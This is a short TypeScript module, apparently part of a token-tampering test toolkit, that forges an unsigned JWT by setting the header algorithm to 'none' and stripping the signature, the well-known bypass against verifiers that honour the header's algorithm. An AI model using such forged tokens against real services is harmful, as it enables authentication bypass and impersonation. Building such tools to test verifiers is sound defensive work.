import { joinJwsSegments, rewriteHeaderSegment, splitJwsSegments } from '../../token/jws-segments';
import type { ForgedToken } from './tamper-attack';

/**
 * Returns the token as an unsecured JWS: header `alg` set to `none`, the payload as written, the
 * signature removed (the token ends in a dot, RFC 7515 §A.5). A verifier that honours the header's
 * `alg` accepts it without any key.
 */
export function forgeUnsignedToken(token: string): ForgedToken {
  const segments = splitJwsSegments(token);
  if (segments === null) return { ok: false, code: 'not-compact-jws' };
  return { ok: true, token: joinJwsSegments({ header: rewriteHeaderSegment(segments.header, { alg: 'none' }), payload: segments.payload, signature: '' }) };
}
